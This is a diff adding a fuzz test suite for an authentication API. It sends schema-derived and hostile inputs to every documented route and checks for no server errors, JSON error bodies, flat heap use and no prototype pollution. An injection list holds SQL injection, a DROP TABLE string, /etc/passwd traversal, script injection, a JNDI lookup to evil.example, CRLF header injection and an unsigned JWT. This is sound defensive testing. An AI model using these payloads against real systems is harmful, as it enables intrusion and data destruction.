@@ -1,0 +1,378 @@
+import { randomUUID } from 'node:crypto'
+import { setFlagsFromString } from 'node:v8'
+import { runInNewContext } from 'node:vm'
+import fc from 'fast-check'
+import t from 'tap'
+import { buildTestApp, json } from '../helpers/app.js'
+import { createTestDatabase } from '../helpers/database.js'
+
+/**
+ * Schema-driven fuzzing (DESIGN §4: no 500 for bad input). Every operation
+ * of the OpenAPI document at GET /docs/json (itself generated from the
+ * routes' TypeBox schemas) gets generated inputs: bodies, query strings,
+ * path parameters and headers drawn from its schema, each value either
+ * schema-shaped (boundaries, patterns, enums, formats) or hostile (wrong
+ * types, oversized and control-character strings, injection payloads,
+ * prototype-pollution keys, deep nesting, broken JSON, form bodies), sent
+ * with no, user, admin, API-key or garbage credentials. No answer may be a
+ * 5xx, every error body is JSON, the process keeps serving, and the heap
+ * after a forced GC stays flat within a generous bound.
+ *
+ * FUZZ_RUNS sets the inputs per operation (default 150).
+ */
+
+const RUNS = Number(process.env.FUZZ_RUNS ?? 150)
+const HEAP_GROWTH_LIMIT_MB = 64
+const PASSWORD = 'a fine passphrase'
+
+setFlagsFromString('--expose-gc')
+const gc = runInNewContext('gc') as () => void
+
+const database = await createTestDatabase()
+const main = await buildTestApp({}, { database })
+const { app } = main
+t.teardown(async () => {
+  await main.close()
+  await database.drop()
+})
+
+type Schema = Record<string, unknown> & {
+  type?: string
+  properties?: Record<string, Schema>
+  required?: string[]
+  anyOf?: Schema[]
+  enum?: unknown[]
+  pattern?: string
+  format?: string
+  maxLength?: number
+  minLength?: number
+  minimum?: number
+  maximum?: number
+  items?: Schema
+}
+
+interface Parameter {
+  in: 'query' | 'path' | 'header'
+  name: string
+  schema: Schema
+}
+
+interface Operation {
+  method: string
+  path: string
+  parameters: Parameter[]
+  body?: Schema
+}
+
+const doc = json<{ paths: Record<string, Record<string, { parameters?: Parameter[]; requestBody?: { content: Record<string, { schema: Schema }> } }>> }>(
+  await app.inject({ method: 'GET', url: '/docs/json' }),
+)
+const operations: Operation[] = Object.entries(doc.paths).flatMap(([path, ops]) =>
+  Object.entries(ops).map(([method, op]) => ({
+    method: method.toUpperCase(),
+    path,
+    parameters: op.parameters ?? [],
+    ...(op.requestBody?.content['application/json'] ? { body: op.requestBody.content['application/json'].schema } : {}),
+  })),
+)
+
+// ------------------------------------------------------------------ value generators
+
+const INJECTIONS = [
+  "' OR '1'='1' --",
+  '"; DROP TABLE users; --',
+  '../../../../etc/passwd',
+  '%2e%2e%2f%2e%2e%2f',
+  '<script>alert(1)</script>',
+  '{{7*7}}',
+  '${jndi:ldap://evil.example/a}',
+  '\u0000',
+  'a\u0000b',
+  '\r\nSet-Cookie: evil=1',
+  '\u202Eevil',
+  '\uFEFF',
+  '\uD800',
+  'ǅ\u0301\u0301\u0301',
+  '🙂'.repeat(100),
+  '__proto__',
+  'constructor',
+  'NaN',
+  '-1',
+  '1e309',
+  '',
+  ' ',
+]
+
+const hostileLeaf: fc.Arbitrary<unknown> = fc.oneof(
+  fc.constantFrom(...INJECTIONS),
+  fc.constantFrom(null, true, false, 0, -1, -0, 1.5, 2 ** 53 + 1, -(2 ** 63), 1e308, Number.MIN_VALUE),
+  fc.string({ unit: 'binary', maxLength: 40 }),
+  fc.string({ unit: 'grapheme', maxLength: 40 }),
+  fc.integer({ min: 1, max: 5000 }).map((n) => 'A'.repeat(n)),
+  fc.constant('x'.repeat(70_000)),
+)
+
+const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
+  { weight: 4, arbitrary: hostileLeaf },
+  { weight: 1, arbitrary: fc.array(hostileLeaf, { maxLength: 5 }) },
+  { weight: 1, arbitrary: fc.dictionary(fc.constantFrom('__proto__', 'constructor', 'prototype', 'toString', 'a', '$where'), hostileLeaf, { maxKeys: 3 }) },
+  { weight: 1, arbitrary: fc.integer({ min: 1, max: 2000 }).map((depth) => JSON.parse('['.repeat(depth) + ']'.repeat(depth)) as unknown) },
+  { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
+)
+
+function schemaValue(schema: Schema): fc.Arbitrary<unknown> {
+  if (schema.anyOf) return fc.oneof(...schema.anyOf.map(schemaValue))
+  if (schema.enum) {
+    return fc.oneof(
+      fc.constantFrom(...schema.enum),
+      fc.constantFrom(...schema.enum).map((v) => (typeof v === 'string' ? v.toUpperCase() : v)),
+      fc.constantFrom(...schema.enum).map((v) => (typeof v === 'string' ? ` ${v}\u0000` : v)),
+    )
+  }
+  switch (schema.type) {
+    case 'string': {
+      const options: fc.Arbitrary<unknown>[] = [fc.string({ maxLength: 80 })]
+      if (schema.format === 'uuid') options.push(fc.uuid(), fc.constantFrom('00000000-0000-0000-0000-000000000000', 'ffffffff-ffff-ffff-ffff-ffffffffffff', randomUUID().toUpperCase()))
+      if (schema.format === 'date-time') {
+        options.push(
+          fc.date({ noInvalidDate: true }).map((d) => d.toISOString()),
+          fc.constantFrom('2026-13-45T99:99:99Z', '0000-00-00T00:00:00Z', '275760-09-13T00:00:00.001Z', '2026-01-01T00:00:00+25:00'),
+        )
+      }
+      if (schema.pattern) options.push(fc.stringMatching(new RegExp(schema.pattern)).filter((s) => s.length < 4000))
+      if (schema.maxLength !== undefined) options.push(fc.constantFrom('a'.repeat(schema.maxLength), 'a'.repeat(schema.maxLength + 1)))
+      if (schema.minLength !== undefined) options.push(fc.constant('a'.repeat(Math.max(0, schema.minLength - 1))))
+      return fc.oneof(...options)
+    }
+    case 'integer':
+    case 'number': {
+      const min = schema.minimum ?? -1e6
+      const max = schema.maximum ?? 1e6
+      return fc.oneof(fc.integer({ min: Math.ceil(min), max: Math.floor(max) }), fc.constantFrom(min - 1, max + 1, min, max, 0.5))
+    }
+    case 'boolean':
+      return fc.oneof(fc.boolean(), fc.constantFrom('true', 1, 0))
+    case 'array':
+      return fc.array(schema.items ? schemaValue(schema.items) : hostileLeaf, { maxLength: 25 })
+    case 'object': {
+      const properties = schema.properties ?? {}
+      const keys = Object.keys(properties)
+      const record = fc.record(
+        Object.fromEntries(keys.map((key) => [key, fuzzValue(properties[key]!)])),
+        { requiredKeys: [] },
+      )
+      return fc
+        .tuple(record, fc.dictionary(fc.constantFrom('__proto__', 'constructor', 'extra', 'role', 'isAdmin', 'id'), hostileLeaf, { maxKeys: 2 }))
+        .map(([known, extra]) => {
+          const value: Record<string, unknown> = {}
+          for (const [key, v] of Object.entries(extra)) Object.defineProperty(value, key, { value: v, enumerable: true, writable: true, configurable: true })
+          for (const [key, v] of Object.entries(known)) Object.defineProperty(value, key, { value: v, enumerable: true, writable: true, configurable: true })
+          return value
+        })
+    }
+    default:
+      return hostileValue
+  }
+}
+
+/** Mostly schema-shaped values, often hostile ones. */
+function fuzzValue(schema: Schema): fc.Arbitrary<unknown> {
+  return fc.oneof({ weight: 3, arbitrary: schemaValue(schema) }, { weight: 2, arbitrary: hostileValue })
+}
+
+const LONE_SURROGATE = /[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/g
+
+/** encodeURIComponent, except that a lone surrogate (which it refuses) goes out as its invalid UTF-8 bytes. */
+function safeEncode(text: string): string {
+  try {
+    return encodeURIComponent(text)
+  } catch {
+    return encodeURIComponent(text.replace(LONE_SURROGATE, '\uFFFD')) + '%ED%A0%80'
+  }
+}
+
+const asText = (value: unknown): string =>
+  typeof value === 'string' ? value : value === undefined ? '' : typeof value === 'object' ? JSON.stringify(value) : String(value)
+
+// ------------------------------------------------------------------ credentials
+
+interface Credentials {
+  user: string
+  admin: string
+  userRefresh: string
+  profileKey: string
+  introspectKey: string
+  userId: string
+  sessionId: string
+}
+
+let accounts = 0
+async function freshCredentials(): Promise<Credentials> {
+  const signup = async (label: string) => {
+    const response = await app.inject({ method: 'POST', url: '/auth/signup', payload: { email: `${label}-${++accounts}-${Date.now()}@fuzz.test`, password: PASSWORD } })
+    if (response.statusCode !== 201) throw new Error(`signup: ${response.body}`)
+    return json<{ user: { id: string; email: string }; access_token: string; refresh_token: string }>(response)
+  }
+  const user = await signup('user')
+  const admin = await signup('admin')
+  await app.db.user.update({ where: { id: admin.user.id }, data: { role: 'admin' } })
+  const login = await app.inject({ method: 'POST', url: '/auth/token', payload: { grant_type: 'password', username: admin.user.email, password: PASSWORD } })
+  const adminToken = json<{ access_token: string }>(login).access_token
+  const key = async (token: string, scopes: string[]) =>
+    json<{ key: string }>(await app.inject({ method: 'POST', url: '/api-keys', headers: { authorization: `Bearer ${token}` }, payload: { name: 'fuzz', scopes } })).key
+  const sid = JSON.parse(Buffer.from(user.access_token.split('.')[1]!, 'base64url').toString()) as { sid: string }
+  return {
+    user: user.access_token,
+    admin: adminToken,
+    userRefresh: user.refresh_token,
+    profileKey: await key(user.access_token, ['profile']),
+    introspectKey: await key(adminToken, ['introspect']),
+    userId: user.user.id,
+    sessionId: sid.sid,
+  }
+}
+
+function authHeaders(choice: number, c: Credentials): Record<string, string> {
+  switch (choice) {
+    case 0:
+      return {}
+    case 1:
+      return { authorization: `Bearer ${c.user}` }
+    case 2:
+      return { authorization: `Bearer ${c.admin}` }
+    case 3:
+      return { 'x-api-key': c.profileKey }
+    case 4:
+      return { authorization: `Bearer ${c.introspectKey}` }
+    case 5:
+      return { authorization: 'Bearer eyJhbGciOiJub25lIn0.e30.' }
+    case 6:
+      return { authorization: `Basic ${Buffer.from('a:b').toString('base64')}` }
+    default:
+      return { cookie: `__Secure-refresh_token=${c.userRefresh}`, origin: 'http://spa.test', 'x-requested-with': 'x' }
+  }
+}
+
+// ------------------------------------------------------------------ requests
+
+type Encoding = 'json' | 'form' | 'raw' | 'none'
+
+interface FuzzInput {
+  auth: number
+  params: Record<string, unknown>
+  query: Record<string, unknown>
+  rawQuery: string
+  headers: Record<string, unknown>
+  body: unknown
+  encoding: Encoding
+  raw: string
+}
+
+const RAW_BODIES = ['{', '{"a":', '[1,2', 'null', '"str"', '\uFEFF{}', '{"__proto__":{"x":1}}', '{"a":1,"a":2}', 'a=b&c', '\u0000\u0001', '{}'.repeat(1000), '1e999']
+
+function inputFor(op: Operation, c: Credentials): fc.Arbitrary<FuzzInput> {
+  const pathParams = op.parameters.filter((p) => p.in === 'path')
+  const queryParams = op.parameters.filter((p) => p.in === 'query')
+  const headerParams = op.parameters.filter((p) => p.in === 'header')
+  const knownIds = fc.constantFrom(c.userId, c.sessionId, randomUUID())
+  const pathValue = fc.oneof(knownIds, fc.uuid(), fc.constantFrom('..%2f..%2fadmin', '%00', 'x'.repeat(300), '%E0%A4%A', 'null', '-1', '%20'), fc.string({ maxLength: 20 }))
+  return fc.record({
+    auth: fc.integer({ min: 0, max: 7 }),
+    params: fc.record(Object.fromEntries(pathParams.map((p) => [p.name, pathValue]))),
+    query: fc.record(Object.fromEntries(queryParams.map((p) => [p.name, fuzzValue(p.schema)])), { requiredKeys: [] }),
+    rawQuery: fc.constantFrom('', '', '', '&__proto__[x]=1', '&limit=1&limit=2', '&scope[]=global', '&%ZZ=1', '&constructor[prototype][x]=1'),
+    headers: fc.record(Object.fromEntries(headerParams.map((p) => [p.name, fuzzValue(p.schema)])), { requiredKeys: [] }),
+    body: op.body ? fuzzValue(op.body) : fc.oneof(fc.constant(undefined), hostileValue),
+    encoding: fc.constantFrom<Encoding>('json', 'json', 'json', 'form', 'raw', 'none'),
+    raw: fc.constantFrom(...RAW_BODIES),
+  })
+}
+
+function buildRequest(op: Operation, input: FuzzInput, c: Credentials) {
+  let url = op.path.replace(/\{(\w+)\}/g, (_m, name: string) => {
+    const value = asText(input.params[name])
+    return /%/.test(value) ? value : safeEncode(value)
+  })
+  const query = Object.entries(input.query)
+    .map(([k, v]) => `${safeEncode(k)}=${safeEncode(asText(v))}`)
+    .join('&')
+  if (query || input.rawQuery) url += `?${query}${input.rawQuery}`
+  const headers: Record<string, string> = { ...authHeaders(input.auth, c) }
+  for (const [k, v] of Object.entries(input.headers)) headers[k] = asText(v).replace(/[^\x20-\x7e]/g, '?')
+  let payload: string | undefined
+  const canHaveBody = op.method !== 'GET'
+  if (canHaveBody && input.encoding === 'json' && input.body !== undefined) {
+    headers['content-type'] = 'application/json'
+    payload = JSON.stringify(input.body)
+  } else if (canHaveBody && input.encoding === 'form' && input.body !== undefined) {
+    headers['content-type'] = 'application/x-www-form-urlencoded'
+    const entries = typeof input.body === 'object' && input.body !== null ? Object.entries(input.body) : [['value', input.body]]
+    payload = entries.map(([k, v]) => `${safeEncode(String(k))}=${safeEncode(asText(v))}`).join('&')
+  } else if (canHaveBody && input.encoding === 'raw') {
+    headers['content-type'] = 'application/json'
+    payload = input.raw
+  }
+  return { method: op.method as 'GET', url, headers, ...(payload === undefined ? {} : { payload }) }
+}
+
+let inputs = 0
+const statuses = new Map<number, number>()
+
+async function heapUsedMb(): Promise<number> {
+  for (let i = 0; i < 3; i++) {
+    gc()
+    await new Promise((resolve) => setImmediate(resolve))
+  }
+  return process.memoryUsage().heapUsed / 1024 / 1024
+}
+
+// One warm-up pass so that lazily built state (compiled schemas, caches, JIT) is not counted as growth.
+const warmCredentials = await freshCredentials()
+for (const op of operations) {
+  for (const input of fc.sample(inputFor(op, warmCredentials), { numRuns: 5, seed: 1 })) await app.inject(buildRequest(op, input, warmCredentials))
+}
+// Every top-level await comes before the first subtest: tap ends the root test once its queue is idle.
+const heapBefore = await heapUsedMb()
+
+t.test('the OpenAPI document lists every route family', async (t) => {
+  t.ok(operations.length >= 20, `${operations.length} operations`)
+  for (const prefix of ['/auth/token', '/auth/signup', '/users/me', '/api-keys', '/admin/users']) {
+    t.ok(operations.some((op) => op.path.startsWith(prefix)), `${prefix} is fuzzed`)
+  }
+})
+
+
+for (const op of operations) {
+  t.test(`${op.method} ${op.path}: ${RUNS} generated inputs, no 5xx`, async (t) => {
+    const credentials = await freshCredentials()
+    await fc.assert(
+      fc.asyncProperty(inputFor(op, credentials), async (input) => {
+        const request = buildRequest(op, input, credentials)
+        const response = await app.inject(request)
+        inputs++
+        statuses.set(response.statusCode, (statuses.get(response.statusCode) ?? 0) + 1)
+        if (response.statusCode >= 500) {
+          throw new Error(`${response.statusCode} for ${JSON.stringify(request).slice(0, 600)}: ${response.body.slice(0, 300)}`)
+        }
+        const type = String(response.headers['content-type'] ?? '')
+        if (response.statusCode >= 400) {
+          if (!type.startsWith('application/json')) throw new Error(`${response.statusCode} error without a JSON body (${type}) for ${request.url}`)
+          JSON.parse(response.body)
+        }
+      }),
+      { numRuns: RUNS },
+    )
+    t.pass(`${op.method} ${op.path}`)
+  })
+}
+
+t.test('after the fuzzing: still serving, heap flat', async (t) => {
+  t.equal((await app.inject({ method: 'GET', url: '/health' })).statusCode, 200, 'health')
+  t.equal((await app.inject({ method: 'GET', url: '/ready' })).statusCode, 200, 'ready (database reachable)')
+  const after = await heapUsedMb()
+  const growth = after - heapBefore
+  t.ok(growth < HEAP_GROWTH_LIMIT_MB, `heap after GC ${heapBefore.toFixed(1)} MB → ${after.toFixed(1)} MB (+${growth.toFixed(1)} MB, bound ${HEAP_GROWTH_LIMIT_MB} MB)`)
+  t.ok(inputs >= operations.length * RUNS, `${inputs} inputs over ${operations.length} operations`)
+  t.comment(`statuses: ${JSON.stringify(Object.fromEntries([...statuses].sort((a, b) => a[0] - b[0])))}`)
+  t.equal(({} as Record<string, unknown>).x, undefined, 'Object.prototype not polluted')
+})
